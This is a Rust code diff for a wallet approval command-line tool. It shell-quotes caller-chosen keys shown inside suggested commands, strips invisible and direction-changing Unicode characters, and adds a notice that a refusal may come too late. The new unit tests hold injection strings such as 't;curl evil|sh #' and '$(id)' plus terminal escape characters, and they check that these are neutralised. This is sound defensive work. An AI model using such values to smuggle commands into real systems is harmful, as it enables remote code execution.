@@ -1,5 +1,7 @@
 //! What waits, for time or for people.
 
+use std::borrow::Cow;
+
 use quorate_approval::ApprovalRequest;
 use quorate_intent::decode;
 use quorate_proto::v1;
@@ -33,6 +35,7 @@ impl From<v1::Waiting> for WaitingView {
 
 impl WaitingView {
     pub(crate) fn words(&self, wallet: &str, key: &str) -> String {
+        let (wallet, key) = (word(wallet), word(key));
         let until = instant(self.until_ms);
         let mut words = match self.tier.as_str() {
             "delay" => format!("WAITING: on hold until {until}"),
@@ -42,12 +45,13 @@ impl WaitingView {
             words.push_str(&failure.words());
         }
         if self.tier != "delay" {
-            words.push_str(&format!("\n  approvers: quorate approval show {wallet} {key} --out FILE"));
+            words.push_str(&format!("\n  approvers: quorate approval show --out FILE -- {wallet} {key}"));
         }
         if self.tier == "delay" {
-            words.push_str(&format!("\n  to stop it: quorate approval refuse {wallet} {key} --reason WHY"));
+            words
+                .push_str(&format!("\n  to stop it: quorate approval refuse --reason WHY -- {wallet} {key}"));
         }
-        words.push_str(&format!("\n  then ask again with the same payload and --idempotency-key {key}"));
+        words.push_str(&format!("\n  then ask again with the same payload and --idempotency-key={key}"));
         words
     }
 }
@@ -69,14 +73,28 @@ pub(crate) struct CaseView {
     pub(crate) refused_by: String,
     #[serde(skip_serializing_if = "String::is_empty")]
     pub(crate) reason: String,
+    /// Of a no: something of the same payload was under way already, or over.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub(crate) may_be_late: bool,
     /// What is to be signed; of a request on hold there is nothing.
     #[serde(skip_serializing_if = "String::is_empty")]
     pub(crate) body: String,
 }
 
-/// Without anything a terminal would obey.
+/// Without anything a terminal would obey, or that makes text look like other text: no controls, nothing that has no width or turns
+/// the direction (Unicode's format characters).
 pub(crate) fn plain(text: &str) -> String {
-    text.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect()
+    let unseen = |c: char| {
+        matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
+    };
+    text.chars().map(|c| if c.is_control() || unseen(c) { '\u{fffd}' } else { c }).collect()
+}
+
+/// A word of a command that is told to people, as a shell reads it: a caller chooses keys, and they may hold what a shell obeys.
+pub(crate) fn word(text: &str) -> String {
+    let text = plain(text);
+    shlex::try_quote(&text).map_or_else(|_| "?".to_owned(), Cow::into_owned)
 }
 
 impl CaseView {
@@ -119,6 +137,7 @@ impl CaseView {
             expires_at_ms,
             refused_by: plain(&case.refused_by),
             reason: plain(&case.reason),
+            may_be_late: case.may_be_late,
             body: String::from_utf8(body.unwrap_or_default()).or_invalid("the case's body")?,
         })
     }
@@ -146,6 +165,11 @@ impl CaseView {
             "" => String::new(),
             by => format!("\nrefused by   {by}: {}", self.reason),
         };
+        let late = if self.may_be_late {
+            "\nThe same payload is being signed, or its hold was over by other means: this may be too late. See `quorate audit tail`."
+        } else {
+            ""
+        };
         let until = instant(self.expires_at_ms);
         let ends = if self.is_hold() {
             format!("until        {until}")
@@ -153,7 +177,7 @@ impl CaseView {
             format!("approved     {}\nexpires      {until}", self.yes())
         };
         format!(
-            "wallet       {}\nrequest      {}\nstate        {}\nwould        {}\n{ends}{refused}",
+            "wallet       {}\nrequest      {}\nstate        {}\nwould        {}\n{ends}{refused}{late}",
             self.wallet, self.idempotency_key, self.state, self.summary,
         )
     }
@@ -171,5 +195,25 @@ impl CaseView {
         };
         let rows: Vec<_> = cases.iter().map(row).collect();
         table(&["WALLET", "REQUEST", "STATE", "APPROVED", "UNTIL", "WOULD"], &rows)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_caller_chose_is_one_word_of_a_command_and_nothing_else() {
+        assert_eq!(word("ticket-17"), "ticket-17");
+        assert_eq!(word("t;curl evil|sh #"), "'t;curl evil|sh #'");
+        assert_eq!(word("$(id)"), "'$(id)'");
+        assert_eq!(word("it's"), "\"it's\"");
+        assert_eq!(word("a\u{202e}b\u{7}"), "'a\u{fffd}b\u{fffd}'");
+    }
+
+    #[test]
+    fn what_cannot_be_seen_is_shown() {
+        assert_eq!(plain("a\u{200b}b\u{2066}c\u{feff}d\u{1b}[2J"), "a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}[2J");
+        assert_eq!(plain("Zürich – 4.000 €"), "Zürich – 4.000 €");
     }
 }
